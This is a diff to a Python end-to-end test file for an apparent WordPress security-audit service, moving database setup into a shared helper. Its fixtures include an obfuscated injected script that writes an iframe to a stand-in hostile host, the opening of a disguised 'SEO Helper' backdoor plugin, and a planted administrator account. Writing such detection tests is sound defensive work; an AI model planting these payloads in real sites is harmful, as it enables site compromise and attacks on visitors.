@@ -6,10 +6,10 @@ import shutil
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
-import pymysql
 import pytest
 
 from tests.nodes.agents import ClientDesk, drain
+from tests.wsa.wordpress_db import ADMIN, wordpress_database
 from xuala.customers.models import Site
 from xuala.desk.models import Ticket
 from xuala.nodes.services import node_token_create, site_attach
@@ -17,15 +17,6 @@ from xuala.wsa import services
 from xuala.wsa.models import Action, Audit, AuditState
 
 DEBIAN = Path("/usr/share/wordpress")
-SCHEMA = [
-    "CREATE TABLE wp_posts (ID BIGINT PRIMARY KEY, post_content LONGTEXT)",
-    "CREATE TABLE wp_options (option_name VARCHAR(191) PRIMARY KEY, option_value LONGTEXT)",
-    "CREATE TABLE wp_users (ID BIGINT PRIMARY KEY, user_login VARCHAR(60), "
-    "user_registered DATETIME)",
-    "CREATE TABLE wp_usermeta (umeta_id BIGINT PRIMARY KEY AUTO_INCREMENT, user_id BIGINT, "
-    "meta_key VARCHAR(255), meta_value LONGTEXT)",
-]
-ADMIN = 'a:1:{s:13:"administrator";b:1;}'
 INJECTED = ("<p>Nuestra tienda</p><script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxpZnJhbWUgc3Jj"
             "PWh0dHA6Ly9ldmlsLmV4YW1wbGUvPicp'))</script><p>Bienvenidos</p>")
 BACKDOOR = (b"<?php\n/*\nPlugin Name: SEO Helper\n*/\nif (isset($_POST['k'])) "
@@ -34,28 +25,19 @@ BACKDOOR = (b"<?php\n/*\nPlugin Name: SEO Helper\n*/\nif (isset($_POST['k'])) "
 
 @pytest.fixture
 def database():
-    name = f"wp_e2e_{os.getpid()}"
-    server = pymysql.connect(host="127.0.0.1", port=3306, user="root", password="")
-    with server.cursor() as cursor:
-        cursor.execute(f"DROP DATABASE IF EXISTS `{name}`")
-        cursor.execute(f"CREATE DATABASE `{name}`")
-        cursor.execute(f"USE `{name}`")
-        for statement in SCHEMA:
-            cursor.execute(statement)
-        cursor.execute("INSERT INTO wp_posts VALUES (1, '<p>Hola</p>'), (2, %s)", (INJECTED,))
-        cursor.execute("INSERT INTO wp_options VALUES ('siteurl', 'https://www.cliente-demo.es')"
-                       ", ('home', 'https://www.cliente-demo.es')")
-        registered = datetime.now(UTC).replace(tzinfo=None)
-        for user_id, login, when in ((1, "ana", registered - timedelta(days=900)),
-                                     (2, "wp_support_x", registered - timedelta(days=1))):
-            cursor.execute("INSERT INTO wp_users VALUES (%s, %s, %s)", (user_id, login, when))
-            cursor.execute("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) "
-                           "VALUES (%s, 'wp_capabilities', %s)", (user_id, ADMIN))
-    server.commit()
-    yield server, name
-    with server.cursor() as cursor:
-        cursor.execute(f"DROP DATABASE IF EXISTS `{name}`")
-    server.close()
+    with wordpress_database(f"wp_e2e_{os.getpid()}") as (server, name):
+        with server.cursor() as cursor:
+            cursor.execute("INSERT INTO wp_posts VALUES (1, '<p>Hola</p>'), (2, %s)", (INJECTED,))
+            cursor.execute("INSERT INTO wp_options VALUES ('siteurl', 'https://www.cliente-demo.es')"
+                           ", ('home', 'https://www.cliente-demo.es')")
+            registered = datetime.now(UTC).replace(tzinfo=None)
+            for user_id, login, when in ((1, "ana", registered - timedelta(days=900)),
+                                         (2, "wp_support_x", registered - timedelta(days=1))):
+                cursor.execute("INSERT INTO wp_users VALUES (%s, %s, %s)", (user_id, login, when))
+                cursor.execute("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) "
+                               "VALUES (%s, 'wp_capabilities', %s)", (user_id, ADMIN))
+        server.commit()
+        yield server, name
 
 
 @pytest.fixture
